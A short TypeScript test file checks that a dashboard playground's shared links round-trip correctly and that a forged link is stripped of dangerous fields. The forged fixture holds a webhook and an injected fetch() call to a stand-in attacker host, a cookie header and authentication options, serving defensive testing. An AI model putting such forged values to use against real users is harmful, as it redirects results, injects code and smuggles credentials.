import { expect, test } from 'bun:test'
import { linkOf, readLink } from '../../../../plugins/dashboard/app/pages/playground/shared-link.ts'

test('a shared link gives the values that it was made of', () => {
  const values = { url: 'https://example.com/?a=b&c', formats: ['markdown'], location: { country: 'DE' } }
  expect(readLink(linkOf(values))).toEqual(values)
  expect(readLink('')).toBeUndefined()
  for (const body of ['{', '[]', '1', 'null']) expect(readLink(`?body=${encodeURIComponent(body)}`)).toBeUndefined()
})

test('a link that somebody wrote cannot send results elsewhere, or bring code or credentials', () => {
  const forged = {
    url: 'https://example.com/',
    webhook: 'https://attacker.example/',
    executeJS: 'fetch("https://attacker.example/")',
    headers: { cookie: 'a=b' },
    scrapeOptions: { actions: [{ type: 'click', selector: 'button' }], authentication: {}, onlyMainContent: true },
  }
  expect(readLink(`?${new URLSearchParams({ body: JSON.stringify(forged) })}`)).toEqual({
    url: 'https://example.com/',
    scrapeOptions: { onlyMainContent: true },
  })
})
